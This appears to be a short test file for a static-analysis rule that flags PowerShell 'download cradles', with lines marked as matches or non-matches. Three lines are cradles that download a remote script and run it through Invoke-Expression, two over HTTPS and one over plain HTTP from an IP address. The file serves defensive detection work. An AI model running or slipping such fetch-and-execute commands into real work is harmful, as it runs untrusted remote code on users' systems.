# ruleid: ps-download-cradle-https
iex ((New-Object System.Net.WebClient).DownloadString('https://community.example.org/install.ps1'))
# ruleid: ps-download-cradle-https
irm https://get.example.sh | iex
# ok: ps-download-cradle-https
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')
# ok: ps-download-cradle-https
Invoke-WebRequest https://example.org/tool.zip -OutFile tool.zip
# ok: ps-download-cradle-https
irm https://api.example.com/v1/users | Format-Table
